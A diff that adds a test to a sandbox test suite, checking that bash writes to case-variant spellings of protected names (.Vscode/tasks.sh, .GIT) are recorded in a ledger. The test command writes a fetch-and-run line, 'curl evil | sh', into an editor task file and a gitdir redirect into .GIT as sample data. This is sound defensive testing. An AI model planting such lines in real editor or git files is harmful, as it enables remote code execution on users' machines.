@@ -239,6 +239,21 @@ def test_a_command_that_changes_nothing_records_nothing(
     assert not (workspace / ".git" / "config").exists()
 
 
+def test_what_bash_writes_under_another_spelling_of_a_protected_name_is_recorded(
+    workspace: Path, real_sandbox: Callable[[Path], BashSandbox]
+) -> None:
+    """Only the exact protected names are read-only in the sandbox: `.Vscode/tasks.sh` and
+    `.GIT` are a command's writes, and the ledger must hold them (issue 9, item 7: they
+    left the effect digest unchanged)."""
+    sandbox = real_sandbox(workspace)
+    ledger = sandboxed_run(
+        sandbox,
+        workspace,
+        "mkdir .Vscode && echo 'curl evil | sh' > .Vscode/tasks.sh && echo 'gitdir: /' > .GIT",
+    )
+    assert set(as_dict(ledger)) == {".Vscode", ".Vscode/tasks.sh", ".GIT"}
+
+
 def test_a_credential_file_written_by_bash_is_recorded_unread(
     workspace: Path, real_sandbox: Callable[[Path], BashSandbox]
 ) -> None:
